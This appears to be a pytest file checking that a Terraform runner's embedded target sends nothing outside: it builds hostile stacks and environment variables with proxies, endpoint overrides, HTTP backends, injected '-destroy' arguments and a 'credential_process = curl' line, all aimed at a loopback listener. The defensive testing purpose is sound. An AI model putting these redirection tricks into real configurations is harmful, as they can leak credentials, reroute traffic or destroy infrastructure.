"""The embedded target reaches nobody: a listener on loopback sees nothing of hostile stacks."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.target.landlock import build_possible

from revet.target.diagnostics import TerraformError
from revet.target.embedded import EmbeddedTarget
from revet.target.environment import INIT_ARGUMENTS
from revet.target.terraform import Terraform

pytestmark = pytest.mark.embedded


class Listener:
    """Takes connections and counts them."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self.socket.getsockname()[1]
        self.seen: list[bytes] = []
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                try:
                    self.seen.append(connection.recv(200))
                except OSError as error:
                    self.seen.append(str(error).encode())

    def close(self) -> None:
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()
        self._thread.join()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


ARGUMENTS = {
    "proxies": (
        "https_proxy = var.proxy",
        'no_proxy = "amazonaws.com"',
        'profile = "hostile"',
        'shared_config_files = ["./config"]',
        'shared_credentials_files = ["${path.module}/config"]',
        'access_key = "AKIAREAL"',
        'secret_key = "x"',
        'token = "y"',
    ),
    "files": (
        "http_proxy = var.from_tfvars",
        'ec2_metadata_service_endpoint = "URL"',
        "skip_metadata_api_check = false",
        "use_fips_endpoint = true",
        'sts_region = "us-west-2"',
        'allowed_account_ids = ["999999999999"]',
    ),
    "endpoints": (
        'endpoints {\n    iam = "URL"\n  }',
        "endpoints {\n    sts = var.from_auto\n  }",
        'custom_ca_bundle = "./config"',
        "insecure = true",
    ),
    "dynamic": (
        (
            'dynamic "endpoints" {\n    for_each = ["URL"]\n    content {\n'
            "      sts = endpoints.value\n    }\n  }"
        ),
        "https_proxy = local.from_environment",
    ),
    "overridden": ("max_retries = 3",),
}
"""Alias to the lines of its provider configuration."""


def hostile(folder: Path, url: str) -> None:
    """A stack of which each provider configuration tries one way out."""
    text = [
        (
            "terraform {\n  required_providers {\n"
            '    aws = {\n      source = "hashicorp/aws"\n    }\n'
            f'  }}\n  backend "http" {{\n    address = "{url}/state"\n  }}\n}}\n'
            f'variable "proxy" {{\n  default = "{url}"\n}}\nvariable "from_tfvars" {{}}\n'
            'variable "from_auto" {}\nvariable "from_environment" {}\n'
            "locals {\n  from_environment = var.from_environment\n}\n"
            'module "own" {\n  source = "./modules/own"\n}\n'
            'module "beside" {\n  source = "../beside"\n}\n'
            f'provider "aws" {{\n  region = "us-east-1"\n  https_proxy = "{url}"\n}}\n'
            'resource "aws_cloudwatch_log_group" "made" {\n  name = "made"\n}\n'
        )
    ]
    for alias, lines in ARGUMENTS.items():
        body = "\n  ".join(lines).replace("URL", url)
        text.append(
            f'provider "aws" {{\n  alias = "{alias}"\n  region = "us-east-1"\n  {body}\n}}\n'
            f'data "aws_caller_identity" "{alias}" {{\n  provider = aws.{alias}\n}}\n'
        )
    (folder / "modules" / "own").mkdir(parents=True)
    (folder.parent / "beside").mkdir()
    (folder / "main.tf").write_text("".join(text))
    (folder / "terraform.tfvars").write_text(f'from_tfvars = "{url}"\n')
    (folder / "zz.auto.tfvars.json").write_text(json.dumps({"from_auto": url}))
    (folder / "config").write_text(
        f"[profile hostile]\nregion = us-east-1\nendpoint_url = {url}\n"
        f"[hostile]\ncredential_process = curl {url}\n"
    )
    in_json = {
        "provider": {
            "aws": [
                {
                    "alias": "json",
                    "region": "us-east-1",
                    "endpoints": [{"sts": url}],
                    "https_proxy": "${var.proxy}",
                }
            ]
        },
        "data": {"aws_caller_identity": {"json": {"provider": "aws.json"}}},
    }
    (folder / "more.tf.json").write_text(json.dumps(in_json))
    (folder / "zzz_override.tf.json").write_text(
        json.dumps(
            {
                "provider": {"aws": [{"alias": "overridden", "https_proxy": url}]},
                "terraform": {"backend": {"http": {"address": f"{url}/override"}}},
            }
        )
    )
    (folder / "zzz_override.tf").write_text(
        f'provider "aws" {{\n  endpoints {{\n    sts = "{url}"\n  }}\n}}\n'
    )
    (folder / "ignored.tofu").write_text('provider "aws" {\n  alias = "tofu"\n}\n')
    (folder / "modules" / "own" / "main.tf").write_text(
        f'provider "aws" {{\n  alias = "inner"\n  region = "us-east-1"\n'
        f'  endpoints {{\n    sts = "{url}"\n  }}\n}}\n'
        'data "aws_caller_identity" "inner" {\n  provider = aws.inner\n}\n'
    )
    (folder.parent / "beside" / "main.tf").write_text(
        f'provider "aws" {{\n  region = "us-east-1"\n  https_proxy = "{url}"\n}}\n'
        'data "aws_caller_identity" "beside" {}\n'
    )


def run(project: Path, url: str, *arguments: str) -> subprocess.CompletedProcess[str]:
    """Call revet with an environment that leads elsewhere in every way that Terraform knows."""
    (project / "revet.toml").write_text("[stacks.infra]\nterraform = 'infra'\nfail_on = 'none'\n")
    elsewhere = project / "elsewhere.tfstate"
    return subprocess.run(
        [sys.executable, "-m", "revet.cli", *arguments],
        capture_output=True,
        text=True,
        cwd=project,
        env={
            **os.environ,
            "NO_COLOR": "1",
            "TF_VAR_from_environment": url,
            "TF_WORKSPACE": "foreign",
            "TF_CLI_ARGS": "-lock=false",
            "TF_CLI_ARGS_apply": f"-state-out={elsewhere}",
            "TF_CLI_ARGS_plan": "-destroy",
            "TF_CLI_ARGS_init": f"-upgrade {os.environ.get(INIT_ARGUMENTS, '')}",
            "TF_DATA_DIR": str(project / "data"),
            "TF_LOG_PATH": str(project / "log"),
            "TF_REATTACH_PROVIDERS": "{}",
            "TF_ENCRYPTION": "nonsense",
            "AWS_ENDPOINT_URL": url,
            "AWS_ENDPOINT_URL_STS": url,
            "AWS_PROFILE": "hostile",
            "AWS_CONFIG_FILE": str(project / "infra" / "config"),
            "HTTPS_PROXY": url,
            "NO_PROXY": "*",
        },
        timeout=600,
        check=False,
    )


def only_ours(project: Path) -> bool:
    """Whether nothing was written beside the project's own files."""
    present = {path.name for path in project.iterdir()}
    return present <= {"infra", "beside", "revet.toml", ".revet"}


def test_a_hostile_stack_is_planned_and_nobody_hears_of_it(
    tmp_path: Path, listener: Listener
) -> None:
    (tmp_path / "infra").mkdir()
    hostile(tmp_path / "infra", listener.url)
    ended = run(tmp_path, listener.url, "check", "infra")
    assert ended.returncode == 0, ended.stdout + ended.stderr
    assert listener.seen == []
    assert only_ours(tmp_path)


CLOUD = """
terraform {
  required_providers {
    aws = {
      source = "hashicorp/aws"
    }
  }
  cloud {
    organization = "hostile"
    hostname     = "HOST"
    workspaces {
      name = "hostile"
    }
  }
}
provider "aws" {
  region      = "us-east-1"
  max_retries = 1
  https_proxy = "URL"
}
resource "aws_cloudwatch_log_group" "made" {
  name = "made"
}
"""


@pytest.mark.slow
def test_a_foreign_workspace_and_foreign_arguments_change_nothing(
    tmp_path: Path, listener: Listener
) -> None:
    (tmp_path / "infra" / ".terraform").mkdir(parents=True)
    (tmp_path / "infra" / ".terraform" / "environment").write_text("foreign")
    text = CLOUD.replace("HOST", f"localhost:{listener.port}").replace("URL", listener.url)
    (tmp_path / "infra" / "main.tf").write_text(text)
    ended = run(tmp_path, listener.url, "rehearse", "infra")
    assert ended.returncode == 0, ended.stdout + ended.stderr
    assert listener.seen == []
    assert only_ours(tmp_path)


@pytest.mark.slow
def test_the_listener_would_hear_of_it(tmp_path: Path, listener: Listener) -> None:
    """What the others show is worth something: without our override the plan does reach it."""
    text = CLOUD.replace("URL", listener.url).partition("  cloud {")
    rest = text[2].partition("provider ")
    (tmp_path / "main.tf").write_text(f"{text[0]}}}\nprovider {rest[2]}")
    target = EmbeddedTarget(tmp_path / "aws")
    target.start()
    try:
        open_one = Terraform(tmp_path, environment=target.environment())
        open_one.init()
        with pytest.raises(TerraformError):
            open_one.plan()
        assert listener.seen != []
        if build_possible():
            listener.seen.clear()
            wall = target.wall([tmp_path])
            walled = Terraform(tmp_path, environment=target.environment(), wall=wall)
            with pytest.raises(TerraformError):
                walled.plan()
            assert listener.seen == [], "the operating system stands behind the override"
    finally:
        target.stop()
